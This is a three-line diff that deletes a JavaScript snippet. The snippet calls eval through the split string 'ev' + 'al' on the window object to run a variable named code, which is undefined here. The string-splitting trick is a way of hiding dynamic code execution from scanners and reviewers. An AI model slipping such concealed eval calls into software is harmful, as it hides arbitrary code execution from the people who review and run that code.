@@ -1,3 +1,0 @@
-!function (w, u) {
-  w["ev" + "al"](code);
-}(window);
